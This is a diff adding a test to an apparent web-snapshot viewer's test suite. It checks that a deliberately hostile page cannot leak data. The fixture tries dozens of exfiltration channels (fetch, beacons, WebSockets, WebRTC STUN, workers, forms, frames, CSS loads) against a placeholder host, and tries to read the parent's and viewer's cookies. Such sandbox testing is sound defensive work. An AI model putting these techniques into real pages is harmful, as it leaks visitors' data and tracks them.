@@ -234,3 +234,101 @@ async def test_a_page_over_three_hosts(open_in):
         assert results == expected(room.port)
         tally = room.replay.tally(LABEL)
         assert "GET https://www.news.example/nothing" in tally.misses
+
+
+HOSTILE = """<!doctype html><title>hostile</title>
+<iframe srcdoc="<meta http-equiv=refresh content='0; url=http://LIVE/refresh'>"></iframe>
+<link rel="preconnect" href="http://LIVE/"><link rel="dns-prefetch" href="//LIVE/"><link rel="prefetch" href="http://LIVE/prefetch">
+<link rel="preload" as="image" href="http://LIVE/preload"><link rel="modulepreload" href="http://LIVE/modulepreload">
+<link rel="icon" href="http://LIVE/icon"><link rel="manifest" href="http://LIVE/manifest"><link rel="stylesheet" href="http://LIVE/sheet">
+<style>@import "http://LIVE/import"; @font-face { font-family: f; src: url(http://LIVE/font) } body { font-family: f; background: url(http://LIVE/background) }</style>
+<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://LIVE/speculated"], "eagerness": "immediate"}]}</script>
+<img src="http://LIVE/img"><img srcset="http://LIVE/srcset 1x"><video src="http://LIVE/video" poster="http://LIVE/poster"></video><audio src="http://LIVE/audio"></audio>
+<object data="http://LIVE/object"></object><embed src="http://LIVE/embed"><iframe src="http://LIVE/iframe"></iframe><svg><image href="http://LIVE/svg"/><use href="http://LIVE/use#a"/></svg>
+<iframe srcdoc="<img src='http://LIVE/srcdoc'><script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:LIVE'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}</script>"></iframe>
+<iframe src="/inner.html"></iframe>
+<script>
+const L = "http://LIVE/", R = {};
+const attempt = async (name, what) => { try { R[name] = String(await Promise.race([what(), new Promise((o) => setTimeout(() => o("late"), 700))])); } catch (e) { R[name] = "refused " + e.name; } };
+const stun = (view) => { const p = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:LIVE" }] }); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); };
+const element = (name, fields) => { const e = document.createElement(name); Object.assign(e, fields); document.body.append(e); return e; };
+const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
+(async () => {
+  await attempt("fetch", () => fetch(L + "fetch", { mode: "no-cors" }));
+  await attempt("keepalive", () => fetch(L + "keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }));
+  await attempt("xhr", () => new Promise((o, no) => { const x = new XMLHttpRequest(); x.onload = o; x.onerror = no; x.open("GET", L + "xhr"); x.send(); }));
+  await attempt("beacon", () => navigator.sendBeacon(L + "beacon", "x"));
+  await attempt("socket", () => new Promise((o, no) => { const w = new WebSocket("ws://LIVE/ws"); w.onopen = o; w.onerror = no; }));
+  await attempt("events", () => new Promise((o, no) => { const s = new EventSource(L + "events"); s.onopen = o; s.onerror = no; }));
+  await attempt("transport", () => new WebTransport("https://LIVE/").ready);
+  await attempt("form", () => element("form", { action: L + "form", method: "post" }).submit());
+  await attempt("form to a window", () => element("form", { action: L + "form2", method: "post", target: "elsewhere" }).submit());
+  await attempt("window", () => open(L + "window"));
+  await attempt("noopener", () => open(L + "noopener", "_blank", "noopener"));
+  await attempt("ping", () => { const a = element("a", { href: "#x", ping: L + "ping" }); a.click(); });
+  await attempt("link", () => { const a = element("a", { href: L + "blank", target: "_blank" }); a.click(); });
+  await attempt("top", () => { top.location = L + "top"; });
+  await attempt("parent", () => parent.document.title);
+  await attempt("parent's cookie", () => parent.document.cookie);
+  await attempt("worker", () => worker(`fetch("${L}worker", { mode: "no-cors" }).catch(() => 0); try { importScripts("${L}importscripts") } catch (e) {}`));
+  await attempt("data worker", () => new Worker(`data:text/javascript,fetch("${L}dataworker", { mode: "no-cors" })`));
+  await attempt("import", () => import(L + "import.js"));
+  await attempt("script", () => element("script", { src: L + "script" }));
+  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
+  await attempt("frame's script", () => { const f = element("iframe", {}); f.contentDocument.write(`<img src="${L}written">`); });
+  await attempt("blob document", () => { element("iframe", { src: URL.createObjectURL(new Blob([`<img src="${L}blob">`], { type: "text/html" })) }); });
+  await attempt("data document", () => { element("iframe", { src: `data:text/html,<img src="${L}data">` }); });
+  await attempt("javascript document", () => { element("iframe", { src: `javascript:'<img src="${L}javascript">'` }); });
+  await attempt("preconnect", () => { document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: L })); });
+  await attempt("markup", () => { document.body.insertAdjacentHTML("beforeend", `<iframe src="${L}markup"></iframe>`); });
+  await attempt("style", () => { document.body.style.cursor = `url(${L}cursor), auto`; });
+  await attempt("track", () => { document.querySelector("video").append(Object.assign(document.createElement("track"), { src: L + "track", default: true })); });
+  await attempt("rtc", () => stun(window));
+  await attempt("rtc of a frame", () => stun(element("iframe", {}).contentWindow));
+  await attempt("rtc of a constructor", () => { const p = Object.create(RTCPeerConnection.prototype); return new p.constructor({ iceServers: [{ urls: "stun:LIVE" }] }); });
+  await attempt("viewer's cookie", () => fetch(`http://${ROOM}/`, { credentials: "include" }).then((r) => r.text()));
+  await attempt("another snapshot", () => fetch(`http://www.news.example.${OTHER}/`).then((r) => r.text()));
+  await attempt("viewer's frame", () => new Promise((o) => { const f = element("iframe", { src: `http://${ROOM}/` }); setTimeout(() => { try { o(f.contentDocument.title) } catch (e) { o("closed") } }, 500); }));
+  parent.postMessage(JSON.stringify(R), "*");
+  await attempt("download", () => { const a = element("a", { href: L + "download", download: "x" }); a.click(); });
+  await attempt("self", () => { location = L + "self"; });
+})();
+</script>
+"""
+
+
+async def test_nothing_leaves(open_in):
+    """Every channel known to us, from a page that is as hostile as it can be."""
+    async with trapping() as trap:
+        live = f"127.0.0.1:{trap.port}"
+
+        def hostile(port: int):
+            page = HOSTILE.replace("LIVE", live)
+            room = f'<script>const ROOM = "{LABEL}.localhost:{port}", OTHER = "2b4e28ba2fa1.localhost:{port}"</script>'
+            inner = "<script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:LIVE'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {} fetch('http://LIVE/inner', {mode: 'no-cors'})</script>"
+            fields = (("Content-Type", HTML), ("Link", f"<http://{live}/>; rel=preconnect"))
+            return replace(
+                material(
+                    recorded(PAGE, (room + page).encode(), fields=fields),
+                    recorded(f"{NEWS}/inner.html", inner.replace("LIVE", live).encode(), fields=fields),
+                    recorded(f"{NEWS}/sw.js", b"", fields=(("Content-Type", JS),)),
+                ),
+                snapshot_id=ID,
+                url=PAGE,
+            )
+
+        async with serving() as room:
+            room.materials[LABEL] = hostile(room.port)
+            room.materials["2b4e28ba2fa1"] = replace(page_material(), snapshot_id=OTHER_ID)
+            async with open_in(room.address(LABEL)), asyncio.timeout(LIMIT_S):
+                results = json.loads(await room.results.get())
+                while room.replay.tally(LABEL).blocked < 20:
+                    await asyncio.sleep(0.2)
+                await asyncio.sleep(2)  # that nothing comes is seen by waiting alone
+            tally = room.replay.tally(LABEL)
+        assert trap.hits == []
+        assert {"fetch", "socket", "worker", "rtc"} <= results.keys()
+        assert {f"http://{live}/fetch", f"ws://{live}/ws", f"http://{live}/worker"} <= set(tally.blocked_urls)
+        closed = ("top", "parent", "parent's cookie", "viewer's cookie", "another snapshot", "service worker")
+        assert all(results[each].startswith("refused") for each in closed)
+        assert results["viewer's frame"] == "closed"
